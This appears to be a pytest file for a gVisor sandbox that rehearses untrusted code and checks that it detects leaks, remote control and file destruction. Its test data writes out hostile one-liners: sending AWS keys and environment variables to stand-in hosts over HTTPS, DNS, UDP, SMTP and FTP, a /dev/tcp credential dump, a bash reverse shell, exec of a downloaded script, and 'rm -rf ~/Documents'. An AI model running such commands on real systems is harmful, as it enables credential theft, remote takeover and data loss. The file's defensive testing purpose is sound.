"""Rehearsals in real gVisor: hosts that are not there answer, nothing leaves, and what was sent is known."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import docker
import pytest
import pytest_asyncio

from engine.models import KillReason, Language, Result
from engine.models.rehearsal import FindingKind
from engine.sandbox.rehearsal.stage import Stage
from engine.sandbox.run.manager import SandboxManager
from engine.settings import SandboxSettings
from tests.sandboxes import Recorder, containers_of, job, sandbox_manager

pytestmark = [pytest.mark.sandbox, pytest.mark.asyncio(loop_scope="module")]
ENGINE = "test-rehearsal"
PYTHON, NODE, SHELL = Language.PYTHON, Language.JAVASCRIPT, Language.SHELL


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def manager() -> AsyncIterator[SandboxManager]:
    """A manager without ready sandboxes: a rehearsal takes one of its own."""
    manager = sandbox_manager(SandboxSettings(pool=0, grace_seconds=0.5), ENGINE)
    await manager.start()
    yield manager
    await manager.close()
    assert [] == containers_of(ENGINE)


async def rehearsed(
    manager: SandboxManager, code: str, language: Language = PYTHON, watcher: Recorder | None = None
) -> tuple[Stage, Result, Recorder]:
    """Rehearse code, and return what it was surrounded by, how it ended and what it said."""
    stage, watcher = Stage(language), watcher or Recorder()
    given = replace(job(code, language, seconds=15), files=stage.files, stage=stage)
    return stage, await manager.run(given, watcher), watcher


SENDERS = {
    "Python over TLS": (PYTHON, ("import os, urllib.request as u\n"
        "u.urlopen('https://collect.example/in', str(dict(os.environ)).encode()).read()")),
    "Node over TLS": (NODE, "fetch('https://collect.example/?k=' + process.env.AWS_SECRET_ACCESS_KEY)"),
    "shell to an address": (SHELL, "exec 3<>/dev/tcp/203.0.113.9/4444; cat ~/.aws/credentials >&3"),
    "names of hosts": (PYTHON, ("import os, socket\nk = os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()\n"
        "for i in range(0, len(k), 16):\n try: socket.gethostbyname(f'{k[i:i+16]}.{i}.evil.example')\n"
        " except OSError: pass")),
    "a datagram": (PYTHON, ("import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(os.environ['AWS_SECRET_ACCESS_KEY'].encode(), ('198.51.100.7', 9999))")),
    "mail": (PYTHON, ("import os, smtplib\nm = smtplib.SMTP('mail.example', 25)\n"
        "m.sendmail('a@a.example', 'b@b.example', '\\n' + os.environ['AWS_SECRET_ACCESS_KEY'])")),
    "an upload by FTP": (PYTHON, ("import ftplib, io, os\nf = ftplib.FTP('ftp.example'); f.login('a', 'b')\n"
        "f.storbinary('STOR x', io.BytesIO(os.environ['AWS_SECRET_ACCESS_KEY'].encode()))")),
    "the last moment": (PYTHON, ("import os, socket\ns = socket.create_connection(('203.0.113.9', 80))\n"
        "s.sendall(b'x' * 50_000 + os.environ['AWS_SECRET_ACCESS_KEY'].encode()); os._exit(0)")),
}  # fmt: skip


@pytest.mark.parametrize("way", SENDERS)
async def test_a_decoy_that_leaves_is_seen(manager: SandboxManager, way: str) -> None:
    """Over every way out that a program has."""
    language, code = SENDERS[way]
    stage, result, watcher = await rehearsed(manager, code, language)
    leaks = [one for one in stage.record.findings if one.kind is FindingKind.LEAK]
    assert any("AWS key" in one.subject for one in leaks), (watcher.stderr, stage.record.contacts, result)


async def test_who_runs_what_a_host_sends_is_seen(manager: SandboxManager) -> None:
    """A reverse shell executes the commands that the host sends; so does who evaluates a download."""
    stage, _, _ = await rehearsed(manager, "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1", SHELL)
    assert "commands" in {one.subject for one in stage.record.findings if one.kind is FindingKind.CONTROLLED}
    code = "import urllib.request as u\nexec(u.urlopen('http://evil.example/stage2.py').read())"
    stage, _, _ = await rehearsed(manager, code)
    assert "code" in {one.subject for one in stage.record.findings if one.kind is FindingKind.CONTROLLED}


async def test_who_destroys_files_is_seen(manager: SandboxManager) -> None:
    """The supervisor hands back what is left, after every process has ended."""
    stage, _, _ = await rehearsed(manager, "rm -rf ~/Documents", SHELL)
    (found,) = stage.record.findings
    assert (FindingKind.DESTROYED, "deleted") == (found.kind, found.where.text)


async def test_an_honest_program_is_not_accused(manager: SandboxManager) -> None:
    """It may read its environment, write files and post to a host."""
    code = """
import json, os, urllib.request
open('report.json', 'w').write(json.dumps(sorted(os.environ)))
print(json.load(urllib.request.urlopen('https://api.example.com/v1/items', b'{"a": 1}'))['ok'])
"""
    stage, result, watcher = await rehearsed(manager, code)
    assert (KillReason.NONE, b"True\n") == (result.kill_reason, watcher.stdout), watcher.stderr
    observed = {one.target.text for one in watcher.effects.values() if not one.routine}
    assert ("/workspace/report.json" in observed, "the engine" in observed) == (True, False)
    assert ([], ["report.json"]) == (stage.record.findings, [name.text for name in stage.changed])
    assert [("api.example.com", "POST")] == [
        (one.host.text, one.method.text) for one in stage.record.contacts
    ]


async def test_code_cannot_undo_its_surroundings(manager: SandboxManager) -> None:
    """It has no capability, cannot stop or look into the relay, and its own new network leads nowhere."""
    code = r"""
import ctypes, os, signal, socket
status = open('/proc/self/status').read()
print('0000000000000000' == status.split('CapEff:')[1].split()[0])
others = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
def refused(act):
    try: act()
    except PermissionError: return True
print(len(others) > 1, all(refused(lambda p=p: os.kill(p, signal.SIGKILL)) for p in others))
print(any('PRATIQUE' in open(f'/proc/{p}/environ').read() for p in [*others, 'self']))
print('PRATIQUE' in ' '.join(os.environ), os.path.exists('/tmp/.pratique'))
libc = ctypes.CDLL(None)
print(libc.unshare(0x50000000))
try: socket.create_connection(('203.0.113.9', 80), 2)
except OSError as error: print('no network')
"""
    _, _, watcher = await rehearsed(manager, code)
    lines = watcher.stdout.decode().split("\n")
    assert ["True", "True True", "False", "False False", "0", "no network"] == lines[:6], watcher.stderr


async def test_no_packet_leaves(manager: SandboxManager) -> None:
    """Counted on the host, in the network namespace of the sandbox: it has only a loopback."""
    ask = "import time, urllib.request as u\nu.urlopen('http://a.example/').read()"
    code = f"{ask}\nprint('sent', flush=True)\ntime.sleep(9)"
    watcher = Recorder()
    running = asyncio.create_task(rehearsed(manager, code, watcher=watcher))
    await watcher.until_said(b"sent")
    (container,) = containers_of(ENGINE)
    client = docker.APIClient(version="auto")
    pid = client.inspect_container(container)["State"]["Pid"]
    rows = Path(f"/proc/{pid}/net/dev").read_text().splitlines()[2:]
    binds = client.inspect_container(container)["Mounts"]
    client.close()
    running.cancel()
    await asyncio.wait({running})
    counted = {row.split(":")[0].strip(): [*map(int, row.split(":")[1].split())] for row in rows}
    assert {"lo"} == {name for name, numbers in counted.items() if any(numbers)} | {"lo"}
    assert 0 == sum(counted["lo"])
    assert [] == binds
